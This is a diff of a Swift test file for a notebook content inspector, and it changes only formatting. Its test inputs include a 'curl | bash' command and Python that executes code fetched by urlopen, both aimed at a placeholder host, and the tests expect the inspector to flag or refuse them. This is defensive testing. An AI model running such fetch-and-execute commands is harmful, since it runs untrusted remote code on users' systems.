@@ -94,7 +94,9 @@ struct EcosystemTests {
             let bytes = try JSONSerialization.data(withJSONObject: ["cells": [cell]])
             return InspectionTests.inspector.inspect([UInt8](bytes), name: "x.ipynb")
         }
-        #expect(try inspect("!curl https://example.invalid/a | bash").marks.map(\.rule) == ["NET-1"])
+        #expect(
+            try inspect("!curl https://example.invalid/a | bash").marks.map(\.rule) == ["NET-1"]
+        )
         let code = "import urllib.request as r\nexec(r.urlopen('https://example.invalid').read())\n"
         #expect(try inspect(code).answer == .refuse)
         #expect(try inspect("%matplotlib inline\nimport pandas\n!pip install pandas").marks.isEmpty)
@@ -104,7 +106,8 @@ struct EcosystemTests {
     func bzip2() throws {
         let packed = try #require(
             Data(
-                base64Encoded: "QlpoOTFBWSZTWTMKw+kAABOBgAwBkAAgADDNAFKh6nRMJhMJhOifF3JFOFCQMwrD6Q=="
+                base64Encoded:
+                    "QlpoOTFBWSZTWTMKw+kAABOBgAwBkAAgADDNAFKh6nRMJhMJhOifF3JFOFCQMwrD6Q=="
             )
         )
         var whole: [UInt8] = []
